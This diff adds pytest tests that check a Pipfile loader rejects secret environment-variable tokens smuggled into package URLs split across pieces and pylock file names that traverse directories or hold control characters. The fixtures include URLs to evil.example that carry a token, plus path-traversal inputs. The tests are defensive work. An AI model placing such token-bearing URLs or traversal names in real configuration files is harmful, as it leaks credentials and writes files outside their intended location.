@@ -386,6 +386,35 @@ def test_token_in_a_package_of_the_repository(tmp_path: Path) -> None:
     assert set(project.assign_variables(project.sources())) == {TOKEN}
 
 
+@pytest.mark.parametrize(
+    ("entry", "part"),
+    [
+        (
+            f'"x @ https://evil.example/${{{TOKEN[:5]}" = "{TOKEN[5:]}}}/x.whl"',
+            "half of a variable",
+        ),
+        (f'"x @ https://evil.example/$" = "{{{TOKEN}}}/x.whl"', "half of a variable"),
+        (f'x = {{version = "@ https://evil.example/${{A${{{TOKEN}}}/"}}', f"token in {TOKEN}"),
+    ],
+)
+def test_stray_token_in_pieces(entry: str, part: str, tmp_path: Path) -> None:
+    """Pieces that pipenv puts together on a line, and braces in braces, are a variable to pip."""
+    write_pipfile(tmp_path, SOURCE, f"[packages]\n{entry}\n")
+    project = load(tmp_path)
+    with pytest.raises(ConfigurationError, match=part):
+        project.assign_variables(project.sources())
+
+
+@pytest.mark.parametrize("name", ["/../../x", "a\\\\b", "\\u0000", "a\\nb"])
+def test_pylock_that_leads_elsewhere(name: str, tmp_path: Path) -> None:
+    """A name that would put the lock into another folder, or into no file at all, is refused."""
+    write_pipfile(tmp_path, SOURCE, f'[pipenv]\npylock_name = "{name}"\n')
+    with pytest.raises(ConfigurationError, match=r"pylock_name in .* is no part of a file's name"):
+        _ = load(tmp_path).pylock
+    write_pipfile(tmp_path, SOURCE, '[pipenv]\npylock_name = "py3.12 dev"\n')
+    assert load(tmp_path).pylock == str(tmp_path / "pylock.py3.12 dev.toml")
+
+
 def test_token_in_scripts(tmp_path: Path) -> None:
     """What a script does with the variable is its own affair."""
     write_pipfile(tmp_path, SOURCE, f'[scripts]\nx = "echo ${TOKEN}"\n')
